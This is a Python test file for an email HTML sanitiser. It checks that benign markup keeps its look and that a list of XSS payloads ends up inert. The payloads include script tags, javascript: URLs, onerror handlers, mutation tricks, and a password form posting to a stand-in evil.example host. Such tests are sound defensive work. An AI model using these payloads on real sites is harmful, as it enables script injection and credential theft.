"""The HTML we show keeps its look, and nothing in it runs, asks, loads or hides behind our page."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from goodword.channels.adapters.email.mime.safe_html import safe_html
from goodword.channels.adapters.email.mime.tidying import tidied


def shown(html: str) -> str:
    return safe_html(tidied(html))


@pytest.mark.parametrize(
    "html",
    [
        '<table border="1" cellpadding="2"><tbody><tr><td colspan="2" bgcolor="#eee">Tea</td></tr></tbody></table>',
        '<img src="cid:leak@customers.example" alt="leak" width="20">',
        '<img src="https://shop.example/tea.png">',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<div dir="rtl"><p style="color:red;font-weight:bold">Tea</p></div>',
        '<div style="display:none">Preheader</div>',
        '<center><font color="red" size="5">Tea</font></center>',
        "<blockquote><ul><li>Tea</li></ul></blockquote>",
    ],
)
def test_its_look_is_kept(html: str):
    assert shown(html) == html


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT src=https://evil.example/x.js></SCRIPT>",
        "<style>body{background:url(https://evil.example)}</style>",
        '<iframe src="https://evil.example"></iframe>',
        '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<a href="javascript:alert(1)">',
        '<a href="data:text/html,<script>alert(1)</script>">',
        '<img src="x" onerror="alert(1)">',
        '<img src="javascript:alert(1)">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<td background="https://evil.example/x.png">',
        '<p style="background:url(https://evil.example)">',
        '<p style="position:fixed;top:0;left:0;z-index:9">',
        "<svg><script>alert(1)</script></svg>",
        '<object data="https://evil.example"></object><embed src="https://evil.example">',
        '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
        '<p title="</p><script>alert(1)</script>">',
        "<scr<script>ipt>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        '<a href="vbscript:x">',
    ],
)
def test_nothing_in_it_is_alive(html: str):
    safe = shown(html + "Text").lower()

    assert not re.search(r"<(?:script|style|iframe|form|input|button|base|meta|link|svg|math|object|embed)", safe)
    assert not re.search(
        r"<[^>]*(?:javascript:|vbscript:|data:text|data:image/svg|onerror|onload|url\(|position|background=)", safe
    )
    assert "text" in safe


def test_links_tell_nobody_where_they_were_followed():
    assert 'rel="noopener noreferrer nofollow"' in shown('<a href="https://shop.example/">shop</a>')


@settings(deadline=None)
@given(
    some.lists(
        some.sampled_from([*"<>\"'=/! -", "<b", "<p>", "</p>", "<!--", "-->", "<a href='", "<td>", "</div>", "x"])
    )
)
def test_any_html_is_safe_html(pieces: list[str]):
    once = shown("".join(pieces))

    assert "<!--" not in once
    once.encode()


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + "".join(f"<b a{n}>" for n in range(3000)) + "</p>" + "<p>x</p>" * 50_000,
        "<p>" + "".join(f"<b a{n}>" for n in range(3000)) + "<p>x" * 50_000,
        ("<p>" + "".join(f"<font a{n}>" for n in range(50)) + "</p>" + "<p>x</p>") * 2_000,
        "<ul>" + "<li><b a=1><i b=2>x" * 50_000,
        "<div><table><tr><td></div>" * 20_000,
    ],
)
def test_html_does_not_grow_beyond_measure(html: str):
    assert len(shown(html)) < 20 * len(html)
